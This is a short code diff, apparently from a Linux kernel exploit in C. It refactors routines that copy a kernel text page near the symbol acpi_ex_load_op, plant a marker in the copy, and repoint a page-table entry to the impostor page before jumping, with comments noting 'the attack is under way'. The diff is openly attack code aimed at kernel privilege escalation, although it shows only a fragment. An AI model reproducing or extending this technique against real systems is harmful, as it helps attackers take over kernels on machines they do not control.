@@ -135,24 +135,14 @@ static void as_supervisor(void)
 /* text that is not in use while the attack is under way */
 #define QUIET "acpi_ex_load_op"
 
-static u64 impostor;
-
 static void copy_of_text(void)
 {
-	static u8 page[PAGE];
-
-	aim = symbol(QUIET);
-	impostor = new_page();
-	fetch(aim & ~4095ull, page, PAGE);
-	memcpy(page + (aim & 4095), mark, MARK);
-	put(impostor, page, PAGE);
-	target = impostor - DIRECT;
+	impersonate(symbol(QUIET), mark, MARK);
 }
 
 static void repointed(void)
 {
-	split(aim);
-	edit(aim, FRAME, target);
+	repoint();
 	jump();
 }
 
